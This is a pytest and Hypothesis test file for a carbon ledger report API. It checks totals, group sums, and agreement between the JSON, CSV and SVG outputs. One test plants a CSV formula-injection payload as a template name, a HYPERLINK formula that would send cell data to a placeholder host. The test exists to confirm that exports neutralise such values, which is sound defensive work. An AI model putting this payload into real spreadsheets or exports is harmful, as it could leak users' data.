"""The carbon ledger (GET /v1/reports/carbon) on SQLite and PostgreSQL: on random runs, its totals equal
the sum over exactly the runs it covers, the groups add up to the total, the forecast and actual parts add
up to each figure, JSON and CSV agree; SVG, errors."""

from __future__ import annotations

import csv
import io
import secrets
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.db import Database
from models.db import Job, Run
from services.reports import safe_cell
from tests.support.api import is_problem
from tests.support.common import new_client

POWER_KW = {"m5.large": 0.0160035, "m5.4xlarge": 0.128255, "c5.xlarge": 0.030191000000000003}
FROM = datetime(2026, 3, 1, tzinfo=UTC)
TO = datetime(2026, 6, 1, tzinfo=UTC)
HOUR = timedelta(hours=1)
STATUSES = ["SUCCEEDED", "FAILED", "TIMED_OUT", "CANCELLED", "EXPIRED", "RUNNING", "PENDING"]

grams = st.one_of(st.none(), st.floats(min_value=0, max_value=5e6, allow_nan=False, allow_infinity=False))
run_st = st.fixed_dictionaries(
    {
        "status": st.sampled_from(STATUSES),
        "started_at": st.one_of(
            st.none(),
            st.datetimes(
                min_value=datetime(2026, 2, 20), max_value=datetime(2026, 6, 10), timezones=st.just(UTC)
            ),
        ),
        "fleet": st.sampled_from([*POWER_KW, "zz.unknown"]),
        "template": st.sampled_from(["tpl_a", "tpl_b", "tpl_c"]),
        "recurring": st.sampled_from([None, "rec_x", "rec_y"]),
        "runtime": st.one_of(st.none(), st.floats(min_value=0, max_value=86400 * 3, allow_nan=False)),
        "chosen": grams,
        "earliest": grams,
        "realised": grams,
        "measured": grams,
        "measured_baseline": grams,
        "p50": st.one_of(st.none(), st.floats(min_value=1, max_value=86400)),
    }
)


@pytest.fixture(scope="module")
def shared_job(api, api_settings) -> str:
    """One job row the random runs hang on (runs need a job for the foreign key; the ledger ignores it)."""
    cid, _ = new_client(api, "ledger-owner")
    db = Database(api_settings)
    jid = "job_ledger_" + secrets.token_hex(4)
    with db.session() as s:
        s.add(
            Job(
                id=jid,
                client_id=cid,
                job_template_id=_any_template(api),
                type="ONE_TIME",
                risk_mode="NEUTRAL",
                request_hash="x",
            )
        )
    db.dispose()
    return jid


def _any_template(api) -> str:
    from tests.support.api import template_body, upload
    from tests.support.zips import make_zip

    _, h = new_client(api, "ledger-tpl")
    art = upload(api, h, make_zip()).json()["artifact_id"]
    r = api.post("/v1/job-templates", json=template_body(art), headers=h)
    assert r.status_code == 201, r.text
    return r.json()["id"]


def insert_runs(api_settings, client_id: str, job_id: str, specs: list[dict]) -> list[Run]:
    db = Database(api_settings)
    rows = []
    with db.session() as s:
        for sp in specs:
            rid = "run_" + secrets.token_hex(8)
            r = Run(
                id=rid,
                job_id=job_id,
                client_id=client_id,
                job_template_id=sp["template"],
                fleet_template_id=sp["fleet"],
                workflow_id=f"run-{rid}",
                status=sp["status"],
                started_at=sp["started_at"],
                runtime_sec=sp["runtime"],
                carbon_chosen_g=sp["chosen"],
                carbon_earliest_g=sp["earliest"],
                carbon_realised_g=sp["realised"],
                carbon_actual_g=sp["measured"],
                carbon_actual_baseline_g=sp["measured_baseline"],
                plan={"p50_sec": sp["p50"]} if sp["p50"] else None,
                recurring_job_id=sp["recurring"],
            )
            s.add(r)
            rows.append(sp | {"id": rid})
    db.dispose()
    return rows


def oracle(specs: list[dict]) -> dict:
    """The ledger recomputed from the runs by its documented rule (services/reports.py)."""
    keys = ("runs", "energy", "chosen", "baseline", "actual_runs", "energy_a", "chosen_a", "baseline_a")
    total = dict.fromkeys(keys, 0)
    for sp in specs:
        # every outcome that consumed compute: a CANCELLED run counts once it had started
        if sp["status"] not in ("SUCCEEDED", "FAILED", "TIMED_OUT", "CANCELLED") or sp["started_at"] is None:
            continue
        if not (FROM <= sp["started_at"] < TO):
            continue
        measured = sp["measured"] is not None
        real = sp["measured"] if measured else sp["realised"]
        chosen = real if real is not None else sp["chosen"]
        if sp["measured_baseline"] is not None:
            base, base_measured = sp["measured_baseline"], True
        elif sp["earliest"] is not None:
            base, base_measured = sp["earliest"], False
            if real is not None and sp["p50"] and sp["runtime"]:
                base = sp["earliest"] * sp["runtime"] / sp["p50"]
        else:
            base, base_measured = chosen, measured
        actual = measured and base_measured
        energy = round(POWER_KW.get(sp["fleet"], 0.0) * (sp["runtime"] or 0.0) / 3600 * 1e6)
        total["runs"] += 1
        total["energy"] += energy
        total["chosen"] += round((chosen or 0.0) * 1000)
        total["baseline"] += round((base or 0.0) * 1000)
        total["actual_runs"] += actual
        if actual:
            total["energy_a"] += energy
            total["chosen_a"] += round((chosen or 0.0) * 1000)
            total["baseline_a"] += round((base or 0.0) * 1000)
    return total


def mg(x: float) -> int:
    return round(x * 1000)


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(specs=st.lists(run_st, max_size=25), group_by=st.sampled_from(["template", "recurring_job", "month"]))
def test_ledger_adds_up_to_its_runs(api, api_settings, shared_job, specs, group_by):
    cid, h = new_client(api, "ledger")
    insert_runs(api_settings, cid, shared_job, specs)
    q = f"/v1/reports/carbon?from={FROM.isoformat()}&to={TO.isoformat()}&group_by={group_by}"
    q = q.replace("+", "%2B")
    js = api.get(q, headers=h)
    assert js.status_code == 200, js.text
    body = js.json()
    want = oracle(specs)
    t = body["total"]
    assert t["runs"] == want["runs"] and t["runs_with_actuals"] == want["actual_runs"]
    assert round(t["energy_kwh"] * 1e6) == want["energy"]
    assert mg(t["emissions_chosen_g"]) == want["chosen"]
    assert mg(t["emissions_baseline_g"]) == want["baseline"]
    assert mg(t["saving_g"]) == want["baseline"] - want["chosen"]
    assert mg(t["saving_forecast_g"]) + mg(t["saving_actual_g"]) == mg(t["saving_g"])
    # what rests on actuals: runs whose chosen and baseline figures were both measured
    assert round(t["energy_actual_kwh"] * 1e6) == want["energy_a"]
    assert mg(t["emissions_chosen_actual_g"]) == want["chosen_a"]
    assert mg(t["emissions_baseline_actual_g"]) == want["baseline_a"]
    assert mg(t["saving_actual_g"]) == want["baseline_a"] - want["chosen_a"]
    for row in [*body["rows"], t]:  # each figure = its forecast part + its actual part, exactly
        for whole, parts in (
            ("energy_kwh", ("energy_forecast_kwh", "energy_actual_kwh")),
            ("emissions_chosen_g", ("emissions_chosen_forecast_g", "emissions_chosen_actual_g")),
            ("emissions_baseline_g", ("emissions_baseline_forecast_g", "emissions_baseline_actual_g")),
        ):
            scale = 1e6 if whole == "energy_kwh" else 1000
            assert sum(round(row[p] * scale) for p in parts) == round(row[whole] * scale), (whole, row)
        chosen_f = mg(row["emissions_chosen_forecast_g"])
        assert mg(row["emissions_baseline_forecast_g"]) - chosen_f == mg(row["saving_forecast_g"]), row
    # the groups add up exactly to the total
    for field in (
        "emissions_chosen_g",
        "emissions_baseline_g",
        "saving_g",
        "saving_actual_g",
        "emissions_chosen_actual_g",
        "emissions_baseline_forecast_g",
    ):
        assert sum(mg(r[field]) for r in body["rows"]) == mg(t[field]), field
    assert sum(r["runs_with_actuals"] for r in body["rows"]) == t["runs_with_actuals"]
    assert sum(r["runs"] for r in body["rows"]) == t["runs"]
    assert sum(round(r["energy_kwh"] * 1e6) for r in body["rows"]) == round(t["energy_kwh"] * 1e6)
    # CSV (Accept: text/csv) says the same
    c = api.get(q, headers=h | {"Accept": "text/csv"})
    assert c.status_code == 200 and c.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(c.text)))
    assert len(rows) == len(body["rows"]) + 1 and rows[-1]["key"] == "total"
    assert "e-0" not in c.text and "e+" not in c.text  # plain decimals a person can read
    for got, exp in zip(rows, [*body["rows"], t], strict=True):
        for k, v in exp.items():
            if k == "display":  # the CSV carries the display strings of the three figures
                for d in ("emissions_chosen", "emissions_baseline", "saving"):
                    # neutralised against formula injection: "-1.00 g" is written '-1.00 g
                    assert got[d] == safe_cell(v[d]), (d, got, exp)
            elif k == "runs_by_outcome":
                assert got[k] == " ".join(f"{o}:{n}" for o, n in v.items()), (got[k], v)
            elif v is None:
                assert got[k] == "", (k, got)
            else:
                assert (float(got[k]) if isinstance(v, int | float) else got[k]) == v, (k, got, exp)
        assert got["unit"] == body["unit"]
    # every row counts its runs per outcome, and they add up to its runs
    for row in [*body["rows"], t]:
        assert sum(row["runs_by_outcome"].values()) == row["runs"]


def test_svg_chart_and_bad_periods(api):
    _, h = new_client(api, "ledger-svg")
    r = api.get("/v1/reports/carbon?format=svg", headers=h)
    assert r.status_code == 200 and r.headers["content-type"].startswith("image/svg+xml")
    assert "<svg" in r.text and "baseline" in r.text and "no runs in this period" in r.text
    is_problem(
        api.get("/v1/reports/carbon?from=2026-05-01T00:00:00Z&to=2026-04-01T00:00:00Z", headers=h), 422
    )
    is_problem(api.get("/v1/reports/carbon?from=2026-05-01T00:00:00", headers=h), 422)  # no offset
    is_problem(api.get("/v1/reports/carbon?group_by=planet", headers=h), 422)
    now = datetime.now(UTC)
    empty = api.get(
        "/v1/reports/carbon",
        params={"from": (now - timedelta(days=1)).isoformat(), "to": now.isoformat()},
        headers=h,
    ).json()
    assert empty["rows"] == [] and empty["total"]["runs"] == 0


def test_actuals_task_records_measured_figures_and_the_ledger_rests_on_them(api, api_settings, tmp_path):
    """The record_carbon_actuals maintenance task on the real DB with a CSV of actuals: a run inside the file
    gets measured gCO2e for its real and its baseline interval (exact integrals), one before the file gets a
    reason and is asked again only after the cache TTL, one older than ORCH_CARBON_ACTUALS_DAYS is left;
    the ledger then puts the first run's saving on actuals."""
    from activities.maintenance import MAINTENANCE_TASKS, MaintenanceContext
    from services.actuals import record_actuals
    from tests.support.api import setup_template

    cid, h, tpl = setup_template(api, fleet_template_id="m5.large")
    now = datetime.now(UTC)
    base = now.replace(minute=0, second=0, microsecond=0) - timedelta(hours=48)
    values = [100.0 + 10 * (i % 24) for i in range(47)]  # hourly, until an hour ago
    csv_file = tmp_path / "actuals.csv"
    csv_file.write_text(
        "timestamp,g\n" + "".join(f"{(base + i * HOUR).isoformat()},{v}\n" for i, v in enumerate(values))
    )
    settings = api_settings.model_copy(
        update={"carbon_provider": "csv", "carbon_csv_path": str(csv_file), "carbon_cache_ttl_sec": 900}
    )

    def run_spec(earliest, started, finished) -> dict:
        return {"earliest": earliest, "started": started, "finished": finished}

    specs = {
        "inside": run_spec(base + 2 * HOUR, base + 10 * HOUR, base + 11 * HOUR + timedelta(minutes=30)),
        "before_file": run_spec(base - 6 * HOUR, base - 5 * HOUR, base - 4 * HOUR),
        "too_old": run_spec(
            now - timedelta(days=10), now - timedelta(days=10), now - timedelta(days=9, hours=23)
        ),
    }
    db = Database(api_settings)
    ids = {}
    with db.session() as s:
        for name, sp in specs.items():
            jid, rid = "job_act_" + secrets.token_hex(6), "run_act_" + secrets.token_hex(6)
            s.add(
                Job(
                    id=jid,
                    client_id=cid,
                    job_template_id=tpl,
                    type="RESCHEDULABLE",
                    earliest_start=sp["earliest"],
                    latest_finish=sp["finished"] + timedelta(hours=6),
                    risk_mode="NEUTRAL",
                    request_hash="x",
                )
            )
            s.flush()
            s.add(
                Run(
                    id=rid,
                    job_id=jid,
                    client_id=cid,
                    job_template_id=tpl,
                    fleet_template_id="m5.large",
                    workflow_id=f"run-{rid}",
                    status="SUCCEEDED",
                    created_at=sp["earliest"] - timedelta(minutes=5),
                    started_at=sp["started"],
                    finished_at=sp["finished"],
                    runtime_sec=(sp["finished"] - sp["started"]).total_seconds(),
                    carbon_chosen_g=1.0,
                    carbon_earliest_g=2.0,
                    carbon_realised_g=1.5,
                    plan={"p50_sec": 5400},
                )
            )
            ids[name] = rid
    task = MAINTENANCE_TASKS["record_carbon_actuals"]
    ctx = MaintenanceContext(settings, db, temporal=None)  # the task needs no Temporal
    try:
        _, summary = task(ctx, {})
        # (>=: the DB is shared by the session's API tests; any finished run of theirs is examined too)
        assert summary["recorded"] >= 1 and summary["unavailable"] >= 1, summary
        with db.session() as s:
            inside, before = s.get(Run, ids["inside"]), s.get(Run, ids["before_file"])
            assert s.get(Run, ids["too_old"]).carbon_actual_checked_at is None
            kw = POWER_KW["m5.large"]
            assert inside.carbon_actual_g == pytest.approx(kw * (values[10] + values[11] / 2))
            assert inside.carbon_actual_intensity == pytest.approx((values[10] + values[11] / 2) / 1.5)
            assert inside.carbon_actual_baseline_g == pytest.approx(kw * (values[2] + values[3] / 2))
            assert (
                inside.carbon_actual_source == "csv actuals.csv (actuals)"
                and inside.carbon_actual_note is None
            )
            assert before.carbon_actual_g is None and before.carbon_actual_checked_at is not None
            assert "run interval not measured" in before.carbon_actual_note
            assert "not a measurement" in before.carbon_actual_note  # embedded did not stand in for it
            chosen, baseline = inside.carbon_actual_g, inside.carbon_actual_baseline_g
        assert task(ctx, {})[1]["examined"] == 0  # nothing is asked again within the cache TTL
        with db.session() as s:
            s.get(Run, ids["before_file"]).carbon_actual_checked_at = now - timedelta(hours=1)
        with db.session() as s:  # out of time budget: the due run waits for the next pass
            assert record_actuals(s, settings, datetime.now(UTC), budget_sec=-1).examined == 0
        assert task(ctx, {})[1] == {"examined": 1, "recorded": 0, "partial": 0, "unavailable": 1}
    finally:
        db.dispose()
    frm = (now - timedelta(days=30)).isoformat()
    body = api.get("/v1/reports/carbon", params={"from": frm, "group_by": "template"}, headers=h).json()
    t = body["total"]
    assert t["runs"] == 3 and t["runs_with_actuals"] == 1
    assert mg(t["emissions_chosen_actual_g"]) == round(chosen * 1000)
    assert mg(t["emissions_baseline_actual_g"]) == round(baseline * 1000)
    assert mg(t["saving_actual_g"]) == round(baseline * 1000) - round(chosen * 1000)
    # the two others rest on the end-of-run estimate (1.5 g) and the forecast baseline scaled to the
    # real runtime (2 g x 1 h / 1.5 h)
    assert mg(t["emissions_chosen_forecast_g"]) == 2 * 1500
    assert mg(t["saving_forecast_g"]) == 2 * (round(2.0 * 3600 / 5400 * 1000) - 1500)
    # the run itself shows what was measured
    carbon = api.get(f"/v1/runs/{ids['inside']}", headers=h).json()["carbon"]
    assert carbon["measured_gco2e"] == pytest.approx(chosen)
    assert carbon["measured_gco2e_baseline"] == pytest.approx(baseline)
    assert carbon["measured_source"] == "csv actuals.csv (actuals)" and carbon["measured_intensity"] > 0
    assert api.get(f"/v1/runs/{ids['before_file']}", headers=h).json()["carbon"]["measured_gco2e"] is None


def test_report_for_a_person_names_outcomes_per_run_export_and_one_truth_in_json_csv_svg(
    api, api_settings, shared_job
):
    """Issue 20 item 1 and issue 21 item 7: a template named like a formula and two unnamed recurring jobs
    on the same cron; runs SUCCEEDED, FAILED and CANCELLED while running (counted and marked), one
    cancelled before it started (not counted). The JSON names the period, scope, signal and unit, gives the
    saving in % and says why no run rests on actuals; the rows read distinct labels; the per-run export
    (JSON and CSV, both ways of asking) carries the methodology and adds up to the total; the CSV neutralises
    every formula-looking cell; the SVG shows the JSON's own display strings."""
    import xml.etree.ElementTree as ET

    from models.db import JobTemplate, RecurringJob
    from tests.support.api import setup_template

    cid, h, tpl = setup_template(api, fleet_template_id="m5.large")
    db = Database(api_settings)
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    recs = ["rec_same_a_" + secrets.token_hex(3), "rec_same_b_" + secrets.token_hex(3)]
    with db.session() as s:
        s.get(JobTemplate, tpl).name = evil
        for rid in recs:
            s.add(RecurringJob(id=rid, client_id=cid, job_template_id=tpl, cron="0 1 * * *", schedule_id=rid))
        s.add(
            RecurringJob(
                id="rec_named_" + secrets.token_hex(3),
                client_id=cid,
                job_template_id=tpl,
                name="@SUM(1+1)",
                cron="0 2 * * *",
                schedule_id="sch_" + secrets.token_hex(4),
            )
        )
    db.dispose()
    base = FROM + timedelta(days=3)
    specs = []
    for i, (status, started, rec) in enumerate(
        [
            ("SUCCEEDED", True, recs[0]),
            ("FAILED", True, recs[1]),
            ("CANCELLED", True, recs[0]),  # cancelled while running: 15 min of compute
            ("CANCELLED", False, recs[1]),  # cancelled before it started: no compute
            ("SUCCEEDED", True, None),
        ]
    ):
        specs.append(
            {
                "status": status,
                "started_at": base + i * HOUR if started else None,
                "fleet": "m5.large",
                "template": tpl,
                "recurring": rec,
                "runtime": 900.0 * (i + 1) if started else None,
                "chosen": 400.0 + 10 * i,
                "earliest": 500.0 + 10 * i,
                "realised": None,
                "measured": None,
                "measured_baseline": None,
                "p50": None,
            }
        )
    ids = [r["id"] for r in insert_runs(api_settings, cid, shared_job, specs)]
    q = {"from": FROM.isoformat(), "to": TO.isoformat(), "group_by": "recurring_job"}
    body = api.get("/v1/reports/carbon", params=q, headers=h).json()
    t = body["total"]
    assert t["runs"] == 4 and t["runs_by_outcome"] == {"CANCELLED": 1, "FAILED": 1, "SUCCEEDED": 2}
    assert mg(t["emissions_baseline_g"]) == sum(mg(500.0 + 10 * i) for i in (0, 1, 2, 4))
    assert (
        t["saving_pct"] == round(t["saving_g"] * 100 / t["emissions_baseline_g"], 2) and t["saving_pct"] > 0
    )
    assert body["unit"] == "kg" and t["display"]["emissions_baseline"] == "2.07 kg"
    assert t["display"]["saving_pct"] == f"{t['saving_pct']:.0f} %"
    assert body["period"] == "2026-03-01 to 2026-06-01"
    assert "location-based" in body["signal"] and "CANCELLED while running" in body["scope"]
    assert {"baseline", "power_model", "signal", "scope"} <= set(body["methodology"])
    assert "PUE" in body["methodology"]["power_model"]
    assert t["runs_with_actuals"] == 0 and t["runs_on_forecast"] == 4
    assert body["actuals_reason"].startswith("no run rests on actuals: 4 run(s) not checked")
    labels = {r["key"]: r["label"] for r in body["rows"]}
    assert labels[recs[0]] != labels[recs[1]]  # two unnamed jobs on the same cron read differently
    assert {labels[recs[0]], labels[recs[1]]} == {f"cron 0 1 * * * ({r})" for r in recs}
    assert labels[""] == "one-off jobs"

    # per run: JSON and CSV, as /carbon/runs and as ?per_run=true; the methodology on every line
    runs = api.get("/v1/reports/carbon/runs", params=q, headers=h).json()["runs"]
    assert [r["run_id"] for r in runs] == [ids[i] for i in (0, 1, 2, 4)]
    assert [r["outcome"] for r in runs] == ["SUCCEEDED", "FAILED", "CANCELLED", "SUCCEEDED"]
    assert sum(mg(r["saving_g"]) for r in runs) == mg(t["saving_g"])
    assert sum(round(r["energy_kwh"] * 1e6) for r in runs) == round(t["energy_kwh"] * 1e6)
    first = runs[0]
    assert first["template_name"] == evil and first["recurring_job_label"] == labels[recs[0]]
    assert first["pue"] > 1 and first["power_kw"] > 0 and first["rests_on"] == "forecast"
    assert first["chosen_basis"] == "forecast" and first["baseline_basis"] == "forecast"
    assert "earliest start" in first["baseline_definition"] and first["provider"]
    for params, headers in (({"format": "csv"}, {}), ({}, {"Accept": "text/csv"})):
        c = api.get("/v1/reports/carbon/runs", params=q | params, headers=h | headers)
        assert c.status_code == 200 and c.headers["content-type"].startswith("text/csv")
        same = api.get("/v1/reports/carbon", params=q | params | {"per_run": "true"}, headers=h | headers)
        assert c.text == same.text
        lines = list(csv.DictReader(io.StringIO(c.text)))
        assert [ln["run_id"] for ln in lines] == [r["run_id"] for r in runs]
        for ln, r in zip(lines, runs, strict=True):
            assert float(ln["saving_g"]) == r["saving_g"] and ln["outcome"] == r["outcome"]
            assert ln["template_name"] == "'" + evil  # neutralised (OWASP), the name still readable
    # CSV injection: no cell of either CSV starts with a formula character
    for text in (
        api.get("/v1/reports/carbon", params=q | {"format": "csv"}, headers=h).text,
        api.get("/v1/reports/carbon", params=q | {"format": "csv", "group_by": "template"}, headers=h).text,
        api.get("/v1/reports/carbon/runs", params=q | {"format": "csv"}, headers=h).text,
    ):
        for line in csv.reader(io.StringIO(text)):
            for cell in line:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                if cell.startswith("-"):
                    float(cell)  # a negative number is data, not a formula
    tpl_csv = api.get("/v1/reports/carbon", params=q | {"format": "csv", "group_by": "template"}, headers=h)
    assert list(csv.DictReader(io.StringIO(tpl_csv.text)))[0]["label"] == "'" + evil

    # the SVG shows the JSON's display strings: the title's total and each row's figures
    svg = api.get("/v1/reports/carbon", params=q | {"format": "svg"}, headers=h)
    assert svg.status_code == 200
    root = ET.fromstring(svg.text)
    texts = [el.text or "" for el in root.iter("{http://www.w3.org/2000/svg}text")]
    whole = " ".join(texts)
    d = t["display"]
    assert f"saved {d['saving']} CO2e ({d['saving_pct']}) of {d['emissions_baseline']}" in whole
    assert "2026-03-01 to 2026-06-01" in whole and "0 on actuals, 4 on forecasts" in whole
    for row in body["rows"]:
        rd = row["display"]
        assert rd["emissions_baseline"] in texts and rd["emissions_chosen"] in texts, row
        assert f"{rd['saving']} ({rd['saving_pct']})" in texts
    bars = [el for el in root.iter("{http://www.w3.org/2000/svg}rect") if el.get("class") == "bar"]
    assert len(bars) == 2 * len(body["rows"])
    assert evil not in svg.text or "&amp;" in svg.text  # names are escaped, the SVG parses


def test_chart_renders_are_bounded_per_client_and_in_all(api, shared_job):
    """Issue 21 item 6: with this client's chart slots taken, its next SVG is refused at once (429 +
    Retry-After) while another client still gets its chart and every client its JSON; with all slots taken
    every chart is a 503 + Retry-After; slots come back."""
    from api.charts import ChartGate

    cid1, h1 = new_client(api, "charts-1")
    cid2, h2 = new_client(api, "charts-2")
    old = getattr(api.app.state, "chart_gate", None)
    api.app.state.chart_gate = gate = ChartGate(per_client=1, total=2)
    try:
        with gate.slot(cid1):
            r = api.get("/v1/reports/carbon?format=svg", headers=h1)
            is_problem(r, 429)
            assert int(r.headers["Retry-After"]) >= 1
            assert api.get("/v1/reports/carbon", headers=h1).status_code == 200  # JSON is not a chart
            preview = {
                "job_template_id": "tpl_whatever",
                "earliest_start": FROM.isoformat(),
                "latest_finish": (FROM + 3 * HOUR).isoformat(),
            }
            # the slot is taken before any work (the template is not even looked up)
            is_problem(api.post("/v1/schedules/preview?format=svg", json=preview, headers=h1), 429)
            assert api.get("/v1/reports/carbon?format=svg", headers=h2).status_code == 200
            with gate.slot(cid2):
                r = api.get("/v1/reports/carbon?format=svg", headers=h2)
                is_problem(r, 429)
                _, h3 = new_client(api, "charts-3")
                r = api.get("/v1/reports/carbon?format=svg", headers=h3)
                is_problem(r, 503)
                assert int(r.headers["Retry-After"]) >= 1
        assert gate.active == 0
        assert api.get("/v1/reports/carbon?format=svg", headers=h1).status_code == 200
    finally:
        api.app.state.chart_gate = old
